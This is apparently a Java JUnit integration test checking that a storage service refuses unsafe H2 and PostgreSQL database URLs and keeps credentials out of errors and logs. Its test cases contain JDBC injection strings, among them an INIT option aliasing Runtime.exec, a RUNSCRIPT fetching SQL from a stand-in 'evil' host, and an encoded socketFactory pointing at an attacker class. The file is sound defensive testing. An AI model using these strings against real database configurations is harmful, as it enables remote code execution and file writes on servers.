package dev.storageapi.faults;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.storageapi.testing.ServiceProcess;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Row 22: a database URL that could run code or write files stops the start. */
final class DatabaseUrlIT {

  private static final String SECRET = "s3cr3t";

  @TempDir private Path folder;

  private void assertDoesNotStart(String url, String why) {
    Map<String, String> environment =
        Map.of("DATABASE_URL", url, "DATABASE_PASSWORD", SECRET, "PORT", "http");
    try (ServiceProcess service = ServiceProcess.with(environment).launch()) {
      assertThat(service.exitCode()).isEqualTo(2);
      assertThat(service.errors())
          .contains("DATABASE_URL is not valid: ", why)
          .contains("PORT=http") // all problems are named together
          .doesNotContain(SECRET, "\tat ");
      assertThat(service.errors().lines()).hasSize(2);
      assertThat(service.lines()).isEmpty();
    }
  }

  @ParameterizedTest
  @CsvSource({
    "INIT=CREATE ALIAS X FOR 'java.lang.Runtime.exec', the option INIT is not allowed",
    "init=RUNSCRIPT FROM 'http://evil/x.sql', the option INIT is not allowed",
    "CACHE_SIZE=1;TRACE_LEVEL_FILE=3, the option TRACE_LEVEL_FILE is not allowed",
    "AUTO_SERVER=TRUE, the option AUTO_SERVER is not allowed",
    "CACHE_SIZE=1\\;INIT=x, the option CACHE_SIZE wants a number",
    "PASSWORD=s3cr3t, the option PASSWORD is not allowed"
  })
  void anOptionOfH2ThatIsNotOnTheListStopsTheStart(String option, String why) throws IOException {
    assertDoesNotStart("jdbc:h2:file:" + folder.resolve("storage") + ";" + option, why);
    try (var files = Files.list(folder)) {
      assertThat(files).isEmpty();
    }
  }

  @ParameterizedTest
  @CsvSource({
    "jdbc:h2:mem:x, neither none",
    "jdbc:h2:tcp://u:s3cr3t@evil/x, neither none",
    "jdbc:h2:zip:x.zip!/y, neither none",
    "postgresql://u:s3cr3t@host/x?socketFactory=evil.Factory, the option socketFactory is not",
    "postgresql://u:s3cr3t@host/x?%73ocketFactory=evil.Factory, the option socketFactory is not",
    "postgresql://u:s3cr3t@host/x?LOGGERFILE=/tmp/x, the option LOGGERFILE is not allowed",
    "postgresql://u:s3cr3t@host/x?sslmode=require&loggerFile=/tmp/x, the option loggerFile is not",
    "postgresql://u:s3cr3t@host, names a host and a database"
  })
  void anyOtherUrlThatIsNotOfTheKnownFormsStopsTheStart(String url, String why) {
    assertDoesNotStart(url, why);
  }

  @Test
  void theCredentialsOfADatabaseThatDoesNotAnswerAreNotShown() {
    Map<String, String> environment =
        Map.of(
            "DATABASE_URL", "postgresql://somebody:" + SECRET + "@127.0.0.1:1/x?sslmode=disable");
    try (ServiceProcess service = ServiceProcess.with(environment).start()) {
      await()
          .atMost(Duration.ofSeconds(10))
          .until(() -> !service.send("GET", "/ready").body().contains("starting"));
      assertThat(service.send("GET", "/ready").body())
          .contains("PostgreSQL at 127.0.0.1:1/x")
          .doesNotContain(SECRET, "somebody", "sslmode");
      assertThat(service.send("GET", "/datasets").body()).doesNotContain("127.0.0.1", SECRET);
      service.terminate();
      assertThat(service.exitCode()).isZero();
      assertThat(service.lines()).isNotEmpty().noneMatch(line -> line.contains(SECRET));
    }
  }
}
